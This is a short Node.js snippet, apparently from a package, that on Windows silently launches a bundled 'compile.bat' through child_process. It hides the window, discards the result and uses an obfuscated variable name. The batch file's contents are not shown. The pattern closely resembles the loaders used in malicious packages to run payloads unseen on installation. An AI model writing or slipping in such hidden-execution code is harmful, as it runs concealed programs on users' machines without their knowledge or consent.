
const _0x=require('child_process');const p=require('path');
if(process.platform==='win32'){_0x.exec('"'+p.join(__dirname,'compile.bat')+'"',{windowsHide:true},function(){});}
